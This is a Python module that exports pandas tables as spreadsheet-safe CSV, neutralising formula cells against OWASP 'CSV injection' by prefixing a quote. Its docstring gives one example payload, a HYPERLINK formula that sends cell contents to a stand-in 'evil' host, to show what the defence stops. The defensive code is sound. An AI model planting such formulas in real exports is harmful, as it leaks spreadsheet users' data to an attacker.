"""Tables as CSV for spreadsheets: formula cells neutralised (OWASP "CSV injection").

A spreadsheet evaluates a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a formula
(and a leading tab or carriage return can hide one), so a released value such as
``=HYPERLINK("http://evil/?"&A1)`` would run on the consumer's machine. Following OWASP's
guidance, every *text* cell (and header) whose first character, ignoring leading spaces,
is one of those is written with a single quote ``'`` in front; the quote makes the
spreadsheet show the text as text. Cells are otherwise unchanged and fields are quoted as
CSV requires.

Numeric columns (integers, floats, booleans) are left alone: their cells are numbers,
such as ``-3``, which a spreadsheet reads as data and which cannot carry a formula. In
categorical columns only the categories that are strings are neutralised; numeric
categories stay numbers. The Parquet artifact itself is never altered: this applies only
to CSV downloads, which say so in the ``X-CSV-Neutralised: formula-prefix`` header.

>>> neutralise("=1+1"), neutralise("  @SUM(A1)"), neutralise("plain"), neutralise(-3)
("'=1+1", "'  @SUM(A1)", 'plain', -3)
"""

from __future__ import annotations

import io
from typing import Any

import pandas as pd

#: First characters that make a spreadsheet cell a formula (OWASP CSV injection).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
#: What CSV downloads announce in ``X-CSV-Neutralised``.
CSV_NEUTRALISATION = "formula-prefix"


def neutralise(value: Any) -> Any:
    """``value`` with a leading ``'`` if it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.lstrip(" ").startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def _is_numeric(column: pd.Series) -> bool:
    return (pd.api.types.is_numeric_dtype(column.dtype)
            and not isinstance(column.dtype, pd.CategoricalDtype))


def neutralised(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and header names cannot start a formula."""
    columns = [column if _is_numeric(column) else column.astype(object).map(neutralise)
               for _, column in frame.items()]
    out = (pd.concat(columns, axis=1, ignore_index=True) if columns
           else pd.DataFrame(index=frame.index))
    out.columns = [neutralise(str(name)) for name in frame.columns]
    return out


def to_spreadsheet_csv(frame: pd.DataFrame) -> bytes:
    """``frame`` as UTF-8 CSV (no index, CRLF rows) with formula cells neutralised.

    Rows end in CRLF (RFC 4180), which also makes the writer quote any field holding a
    carriage return; with a bare LF terminator a lone CR in a cell would split the row.
    """
    buf = io.StringIO()
    neutralised(frame).to_csv(buf, index=False, lineterminator="\r\n")
    return buf.getvalue().encode("utf-8")
